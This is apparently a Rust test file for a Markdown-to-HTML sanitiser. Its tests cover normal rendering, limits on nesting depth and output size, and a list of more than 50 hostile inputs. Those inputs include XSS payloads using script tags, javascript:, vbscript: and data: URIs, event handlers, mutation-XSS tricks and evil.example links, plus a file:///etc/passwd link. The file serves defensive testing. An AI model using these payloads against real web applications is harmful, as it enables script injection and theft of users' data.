//! Rendered Markdown, ordinary and hostile.

use super::to_html;

#[test]
fn markdown_is_rendered() {
    let check = |text: &str, expected: &str| assert_eq!(to_html(text).trim(), expected);
    check("**a** ~~b~~", "<p><strong>a</strong> <del>b</del></p>");
    check("dice: 2d6\ntotal: 7", "<p>dice: 2d6<br>\ntotal: 7</p>");
    check(
        "```rust\nfn a() {}\n```",
        "<pre><code class=\"language-rust\"><span class=\"hl-keyword\">fn</span> \
         <span class=\"hl-function\">a</span>() {}\n</code></pre>",
    );
    check("    <b>\n", "<pre><code>&lt;b&gt;\n</code></pre>");
    check("- [x] a\n- [ ] b", "<ul>\n<li>☑ a</li>\n<li>☐ b</li>\n</ul>");
    let rel = "rel=\"noopener noreferrer nofollow\"";
    check(
        "[a](https://example.org/?a=1&b=2)",
        &format!("<p><a href=\"https://example.org/?a=1&amp;b=2\" {rel}>a</a></p>"),
    );
    check(
        "![a cat](http://elsewhere.example/cat.png)",
        &format!(
            "<p><span class=\"picture\"><a href=\"http://elsewhere.example/cat.png\" {rel}>a \
             cat</a></span></p>"
        ),
    );
    check(
        "![dot](data:image/gif;base64,R0l=)",
        "<p><img src=\"data:image/gif;base64,R0l=\" alt=\"dot\"></p>",
    );
    check(
        "[![a](https://a.example/)](https://b.example)",
        &format!("<p><a href=\"https://b.example\" {rel}>a</a></p>"),
    );
    check(
        "https://a.example/b_c",
        &format!("<p><a href=\"https://a.example/b_c\" {rel}>https://a.example/b_c</a></p>"),
    );
    let table = to_html("| a | b |\n| --- | ---: |\n| 1 | 2 |");
    assert!(table.contains("<th>a</th>") && table.contains("<td>1</td>"), "{table}");
    assert!(table.contains("<th align=\"right\">b</th>"), "{table}");
    assert!(table.contains("<td align=\"right\">2</td>"), "{table}");
}

#[test]
fn notes_and_definitions_are_rendered() {
    let check = |text: &str, expected: &str| assert_eq!(to_html(text).trim(), expected);
    check("Term\n: Meaning", "<dl>\n<dt>Term</dt>\n<dd>Meaning</dd>\n</dl>");
    check(
        "b[^x] a[^y] b[^x]\n\n[^y]: two\n[^x]: one",
        "<p>b<sup class=\"note-1\">1</sup> a<sup class=\"note-2\">2</sup> b<sup \
         class=\"note-1\">1</sup></p>\n<div class=\"note-text\"><sup class=\"note-2\">2</sup>\n\
         <p>two</p>\n</div>\n<div class=\"note-text\"><sup class=\"note-1\">1</sup>\n<p>one</p>\n\
         </div>",
    );
}

/// GD-14: nothing in this list may leave a script, a handler, a style, a frame, a form, a
/// picture or a link to anything but the web and mail.
#[test]
fn gd_14_hostile_texts_become_harmless() {
    for text in HOSTILE {
        assert_harmless(&to_html(text), text);
    }
    assert!(HOSTILE.len() >= 30);
}

#[track_caller]
pub(crate) fn assert_harmless(html: &str, text: &str) {
    let lower = html.to_lowercase();
    // Only what is inside a tag can act.
    let tags = lower.split('<').skip(1).filter_map(|tag| tag.split('>').next());
    let tags: String = tags.map(|tag| format!("<{tag}>")).collect();
    for word in FORBIDDEN {
        assert!(!tags.contains(word), "{word} in {html}\nfrom {text}");
    }
    for tag in lower.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap();
        let name = tag.trim_start_matches('/').split([' ', '/']).next().unwrap();
        assert!(ALLOWED.contains(&name), "<{tag}> in {html}\nfrom {text}");
        for attribute in tag.split(' ').skip(1).filter_map(|one| one.split_once("=\"")) {
            let (name, value) = attribute;
            let good = match name {
                "href" => ["http:", "https:", "mailto:"].iter().any(|s| value.starts_with(s)),
                "class" => {
                    let ours = ["language-", "hl-", "note-", "picture\"", "math-"];
                    ours.iter().any(|start| value.starts_with(start))
                }
                "rel" | "title" | "align" | "start" => true,
                "display" | "lspace" | "rspace" | "stretchy" => tag.starts_with('m'),
                _ => false,
            };
            assert!(good, "{name}={value} in {html}\nfrom {text}");
        }
    }
}

const FORBIDDEN: &[&str] =
    &["<script", "=\"javascript", "=\"vbscript", "=\"data", "<iframe", "<img", "<svg"];

const ALLOWED: &[&str] = &[
    "p",
    "a",
    "b",
    "i",
    "em",
    "strong",
    "code",
    "pre",
    "span",
    "div",
    "ul",
    "ol",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "td",
    "th",
    "h1",
    "h2",
    "blockquote",
    "br",
    "hr",
    "del",
    "details",
    "summary",
    "center",
    "cite",
    "sup",
    "sub",
    "u",
    "s",
    "math",
    "merror",
    "mtext",
    "mrow",
    "mi",
    "mo",
    "mn",
];

pub(crate) const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/pixel.png\">",
    "![x](https://evil.example/pixel.png \"onerror=alert(1)\")",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](DATA:image/png;base64,AAAA)",
    "$\\text{<script>alert(1)</script>}$ $\\href{javascript:alert(1)}{x}$",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/api/approvals)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=x target=_top onclick=alert(1)>x</a>",
    "<b onclick=\"alert(1)\" onmouseover=alert(2) style=\"position:fixed\">x</b>",
    "<div style=\"background:url(https://evil.example/)\">x</div>",
    "<style>*{display:none}</style>x",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=x></object><embed src=x>",
    "<form action=/api/conversations method=post><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<video src=x onerror=alert(1)></video><audio src=x>",
    "<details open ontoggle=alert(1)>x</details>",
    "<code class=\"app hidden\">x</code><span class=\"veil\">y</span>",
    "```\"onmouseover=alert(1)\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```x\"><img src=x onerror=alert(1)>\nx\n```",
    "`<script>alert(1)</script>`",
    "<p id=\"app\" name=\"token\">clobbered</p>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<textarea></textarea><select><option>x</select>",
    "<a href=\"https://ok.example/\" rel=\"opener\" ping=\"https://evil.example/\">x</a>",
    "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
];

/// The nesting depth of elements.
fn depth(html: &str) -> usize {
    let (mut depth, mut deepest) = (0_usize, 0);
    for tag in html.split('<').skip(1) {
        let name = tag.split(['>', ' ']).next().unwrap();
        match name {
            "br" | "hr" => {}
            _ if name.starts_with('/') => depth -= 1,
            _ => depth += 1,
        }
        deepest = deepest.max(depth);
    }
    deepest
}

/// Cells that the parser adds where rows of a table are too short, all of them together.
const CELLS_BYTES_MAX: usize = 4 << 20;

/// Texts that make a parser visit all open elements at each line or tag.
#[test]
fn nesting_and_output_size_are_limited_for_any_text() {
    let many = |text: &str, count: usize| text.repeat(count);
    let deep = |open: &str, close: &str| many(open, 4_000) + "a" + &many(close, 4_000);
    let distinct = |count: usize| -> String {
        (0..count).map(|at| format!("<i id={at}><table><td></i>")).collect()
    };
    let texts = [
        many("> ", 60_000),
        many(">", 10_000),
        many("- ", 10_000) + &many("\n", 10_000),
        many("1. ", 10_000) + &many("\n", 10_000),
        many("> - ", 5_000) + "\na\n" + &many("\n", 10_000),
        (0..200).map(|at| format!("{}- a\n", many("  ", at))).collect(),
        deep("*a ", " b*"),
        deep("[", "](a)"),
        deep("![", "](a)"),
        deep("<b>", "</b>"),
        deep("<div>\n\n", "</div>\n\n"),
        deep("<x>", "</x>"),
        many("<i>", 4_000) + &many("\n\na", 4_000),
        distinct(1_000) + &many("\n\na", 4_000),
        many("<p><b><i><u><s><sub><sup>\n\n", 1) + &many("a\n\n", 4_000),
        "<table>\n\n".to_owned() + &many("a\n\n", 4_000),
        "[a]: ".to_owned() + &many("b", 60_000) + "\n\n" + &many("[a]", 4_000),
        many("|a", 1_000) + "\n" + &many("|-", 1_000) + &many("\n|a", 1_000),
        many("`a", 8_000),
        many("a", 2 << 20),
    ];
    for text in &texts {
        let html = to_html(text);
        let start: String = text.chars().take(40).collect();
        assert!(depth(&html) <= 160, "{} open in {start}…", depth(&html));
        assert!(html.len() <= 40 * text.len() + CELLS_BYTES_MAX, "{} from {start}…", html.len());
        assert_harmless(&html, &start);
    }
}

#[test]
fn well_nested_html_is_kept_and_other_html_is_shown_as_text() {
    let check = |text: &str, expected: &str| assert_eq!(to_html(text).trim(), expected);
    check("a<br>b <sub>c</sub>", "<p>a<br>b <sub>c</sub></p>");
    check(
        "<details><summary>a</summary>\n\n**b**\n\n</details>",
        "<details><summary>a</summary>\n<p><strong>b</strong></p>\n</details>",
    );
    check("a Vec<String> <b>b</b>", "<p>a Vec&lt;String&gt; <b>b</b></p>");
    check("<b>a", "<p>&lt;b&gt;a</p>");
    check("*a <b>b* c</b>", "<p><em>a &lt;b&gt;b</em> c&lt;/b&gt;</p>");
    check("<TABLE><tr><td>a", "&lt;TABLE&gt;&lt;tr&gt;&lt;td&gt;a");
}

#[test]
fn excess_markers_are_shown_as_text() {
    let html = to_html(&format!("{}a", "> ".repeat(70)));
    assert_eq!(html.matches("<blockquote>").count(), 64, "{html}");
    assert!(html.contains("&gt; &gt; &gt; &gt; &gt; &gt; a"), "{html}");
    let rule = "- ".repeat(20);
    assert_eq!(to_html(&rule).trim(), "<hr>");
}
